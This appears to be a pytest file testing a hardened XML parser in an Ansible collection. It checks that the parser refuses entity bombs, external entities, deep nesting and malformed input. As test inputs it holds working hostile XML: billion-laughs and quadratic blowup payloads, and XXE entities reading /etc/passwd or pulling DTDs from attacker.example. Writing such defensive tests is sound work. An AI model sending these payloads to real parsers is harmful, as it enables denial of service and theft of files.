import time
import tracemalloc

import pytest
import xmltodict

from ansible_collections.opencitrix.automation.plugins.module_utils import errors
from ansible_collections.opencitrix.automation.plugins.module_utils.storefront import safe_xml

MIB = 1024 * 1024
BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY lol "lol">'
                  + ''.join('<!ENTITY lol%d "%s">' % (i, ('&lol%d;' % (i - 1) if i > 1 else '&lol;') * 10) for i in range(1, 10))
                  + ']><r>&lol9;</r>')
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "%s">]><r>%s</r>' % ('x' * 50000, '&a;' * 80)


def peak_of(func):
    tracemalloc.start()
    try:
        func()
    except Exception:  # pylint: disable=broad-except
        pass
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak


@pytest.mark.parametrize('doc', [BILLION_LAUGHS, QUADRATIC])
def test_entity_bombs_are_refused_without_memory_growth(doc):
    with pytest.raises(errors.ResponseFormatError, match='entity expansion \\(an XML bomb\\) is not allowed'):
        safe_xml.parse(doc, 'read it')
    assert peak_of(lambda: safe_xml.parse(doc, 'read it')) < MIB // 2


def test_the_memory_measurement_sees_an_unguarded_expansion():
    """Control: the same quadratic blow-up through a parser without the guards grows by megabytes."""
    assert peak_of(lambda: xmltodict.parse(QUADRATIC, disable_entities=False)) > 4 * MIB


@pytest.mark.parametrize('doc,expected', [
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'external entity "x" (file:///etc/passwd)'),
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "https://attacker.example/x">]><r>&x;</r>', 'external entity "x"'),
    ('<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><r/>', 'external entity "p"'),
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "logo.png" NDATA png>]><r/>', 'external entity "x"'),
])
def test_external_entities_are_refused(doc, expected, tmp_path):
    with pytest.raises(errors.ResponseFormatError, match='hostile XML') as caught:
        safe_xml.parse(doc, 'read it')
    assert expected in str(caught.value)


def test_external_entity_content_is_never_read(tmp_path):
    secret = tmp_path / 'secret.txt'
    secret.write_text('TOP-SECRET-4c1d')
    with pytest.raises(errors.ResponseFormatError) as caught:
        safe_xml.parse('<!DOCTYPE r [<!ENTITY x SYSTEM "file://%s">]><r>&x;</r>' % secret, 'read it')
    assert 'TOP-SECRET' not in str(caught.value)


def test_a_plain_doctype_is_harmless_and_allowed_unless_forbidden():
    assert safe_xml.parse('<!DOCTYPE r><r>1</r>', 'read it') == {'r': '1'}
    with pytest.raises(errors.ResponseFormatError, match='document type declaration'):
        safe_xml.parse('<!DOCTYPE r><r>1</r>', 'read it', forbid_dtd=True)


@pytest.mark.parametrize('doc,expected', [
    ('<a><b>', 'malformed XML (no element found'), ('', 'the response has no XML body'), (b'   ', 'the response has no XML body'),
    ('<a>\x00</a>', 'malformed XML'), ('<x:a/>', 'malformed XML (unbound prefix'),
])
def test_malformed_documents(doc, expected):
    with pytest.raises(errors.ResponseFormatError) as caught:
        safe_xml.parse(doc, 'read it', url='https://sf/x')
    assert str(caught.value).startswith('Could not read it: ' + expected)


def test_size_limit_and_text_helper():
    with pytest.raises(errors.ResponseFormatError, match='larger than the 10-byte limit'):
        safe_xml.parse('<a>0123456789</a>', 'read it', max_bytes=10)
    assert safe_xml.text({'@x': '1', '#text': 'v'}) == 'v' and safe_xml.text(None) is None and safe_xml.text(3) == '3'


def nested(levels, name='e'):
    return '<r>%s%s</r>' % ('<%s>' % name * levels, '</%s>' % name * levels)


def test_nesting_is_bounded():
    assert safe_xml.parse(nested(safe_xml.DEFAULT_MAX_DEPTH - 1), 'read it')['r'] is not None
    with pytest.raises(errors.ResponseFormatError) as caught:
        safe_xml.parse(nested(safe_xml.DEFAULT_MAX_DEPTH), 'read it', url='https://sf/x')
    assert str(caught.value).startswith('Could not read it: hostile XML: elements nested deeper than 64 levels')
    with pytest.raises(errors.ResponseFormatError):
        safe_xml.parse(nested(3), 'read it', max_depth=3)


def test_a_document_nested_100000_levels_deep_is_refused_at_once():
    doc = nested(100000, 'path').encode()
    started = time.perf_counter()
    with pytest.raises(errors.ResponseFormatError) as caught:
        safe_xml.parse(doc, 'list StoreFront resources')
    assert time.perf_counter() - started < 1.0
    assert 'nested deeper than 64 levels' in str(caught.value) and '\n' not in str(caught.value)


def test_repeated_elements_are_named_or_read_as_lists_never_chosen_by_a_callable():
    with pytest.raises(TypeError):
        safe_xml.parse('<r/>', 'read it', force_list=lambda path, key, value: True)
    assert safe_xml.parse('<r><c>1</c></r>', 'read it', force_list=('c',)) == {'r': {'c': ['1']}}
    assert [safe_xml.as_list(v) for v in (None, 'a', {'b': 1}, ['a', 'b'])] == [[], ['a'], [{'b': 1}], ['a', 'b']]
